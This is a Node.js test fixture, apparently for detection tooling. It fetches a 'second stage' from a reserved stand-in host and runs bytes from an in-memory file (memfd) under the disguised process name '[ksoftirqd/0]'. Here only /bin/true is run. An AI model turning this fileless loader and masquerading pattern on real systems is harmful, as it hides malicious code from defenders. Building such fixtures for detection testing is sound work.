// Corpus fixture (P26): fetches a second stage over HTTP, then runs a payload from memory — a
// memfd filled by a Python helper and run through /proc/self/fd/N under a false name — so nothing
// downloaded is ever on disk. Harmless: the host is a reserved name the sandbox sinks, and the
// "payload" run is the system's own `true`.
const http = require('http');
const { spawnSync } = require('child_process');
const { readFileSync } = require('fs');

const helper = [
  'import os, sys',
  'fd = os.memfd_create("stage2", 0)',
  'os.write(fd, sys.stdin.buffer.read())',
  'os.execv("/proc/self/fd/%d" % fd, ["[ksoftirqd/0]"])',
].join('\n');

function runFromMemory() {
  spawnSync('python3', ['-c', helper], { input: readFileSync('/bin/true'), stdio: ['pipe', 'inherit', 'inherit'] });
}

const req = http.get('http://stage2.cdn-assets.invalid/payload.bin', (res) => {
  res.resume();
  res.on('end', runFromMemory);
});
req.on('error', runFromMemory);
req.setTimeout(5000, () => req.destroy());
